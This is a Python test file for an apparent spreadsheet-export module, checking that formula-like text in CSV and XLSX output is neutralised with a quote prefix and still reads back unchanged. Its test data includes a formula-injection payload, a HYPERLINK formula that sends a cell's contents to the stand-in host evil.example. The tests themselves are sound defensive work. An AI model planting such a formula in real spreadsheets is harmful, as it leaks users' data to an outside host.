"""Spreadsheets out and in: nothing a cell says is ever run as a formula."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from hyeopchi.core.tabular import read_table, write_csv, write_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
ROW = [HOSTILE, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "보통 제목", -5, Decimal("1.50")]


def xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [(cell.value, cell.data_type) for cell in sheet[2]]


def test_xlsx_writes_formula_like_text_as_inert_strings_and_numbers_as_numbers():
    cells = xlsx_cells(write_xlsx([f"c{n}" for n in range(len(ROW))], [ROW]))

    assert cells == [
        ("'" + HOSTILE, "s"),
        ("'+1", "s"),
        ("'-2", "s"),
        ("'@SUM(A1)", "s"),
        ("'\tx", "s"),
        ("'_x000D_x", "s"),  # a carriage return, as SpreadsheetML escapes it
        ("보통 제목", "s"),
        (-5, "n"),
        (1.5, "n"),
    ]


def test_csv_prefixes_formula_like_text_and_leaves_numbers_alone():
    text = write_csv(["a"] * len(ROW), [ROW]).decode("utf-8-sig")

    line = text.split("\r\n")[1]
    assert (
        line
        == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",\'+1,\'-2,\'@SUM(A1),\'\tx,"\'\rx",보통 제목,-5,1.50'
    )


@pytest.mark.parametrize("name", ["t.csv", "t.xlsx"])
def test_a_file_written_here_reads_back_to_the_original_text(name):
    header = ["제목", "기관"]
    write = write_csv if name.endswith(".csv") else write_xlsx

    table = read_table(write(header, [[HOSTILE, "-동구"]]), name)

    assert table.rows == [(2, {"제목": HOSTILE, "기관": "-동구"})]
